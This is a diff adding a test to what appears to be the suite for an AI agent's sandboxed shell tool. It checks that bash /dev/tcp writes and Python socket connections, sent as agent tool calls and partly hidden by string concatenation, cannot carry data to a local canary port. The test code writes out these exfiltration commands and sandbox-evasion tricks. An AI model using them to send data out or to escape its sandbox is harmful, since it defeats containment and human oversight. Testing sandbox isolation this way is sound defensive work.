@@ -305,3 +305,42 @@ async def test_shell__write_protected(tmp_path: Path) -> None:
     assert not (root / ".lovia" / "settings.json").exists()
     assert (root / ".devcontainer" / "devcontainer.json").read_text() == "{}"
     assert (root / ".nvim.lua").read_text() == "-- mine\n"
+
+
+async def test_shell__network(tmp_path: Path) -> None:
+    """bash's ``/dev/tcp`` (named in the command, and computed by an allow-listed script) and a
+    python socket reach nothing from the sandbox: the canary on 127.0.0.1 sees no connection."""
+
+    def setup(env: Env) -> None:
+        (env.root / "n.py").write_text(
+            "import socket, subprocess\n"
+            f"port = {env.canary.port}\n"
+            "target = '/dev/' + 'tcp/127.0.0.1/' + str(port)\n"
+            "r = subprocess.run(['bash', '-c', 'echo leak > ' + target], capture_output=True)\n"
+            "print('bash', r.returncode)\n"
+            "try:\n"
+            "    socket.create_connection(('127.0.0.1', port), timeout=2).sendall(b'leak')\n"
+            "    print('connected')\n"
+            "except OSError as exc:\n"
+            "    print('refused', type(exc).__name__)\n"
+        )
+
+    seen = await attack(
+        tmp_path,
+        Attack(
+            "shell-network",
+            "matrix",
+            "reach the network from the shell",
+            [
+                ("shell", {"command": "bash -c 'echo leak > /dev/tcp/127.0.0.1/{port}'"}),
+                ("shell", {"command": "python3 n.py"}),
+            ],
+            ["blocked", "ran"],
+            settings=_allow("bash", "python3 n.py", write="allow"),
+            setup=setup,
+        ),
+    )
+    assert seen["outcomes"][1] == "ran", explain(seen)
+    assert seen["connections"] == 0, explain(seen)
+    text = " ".join(c.get("text", "") for c in seen["results"]["x1"]["content"])
+    assert "refused" in text and "connected" not in text, text
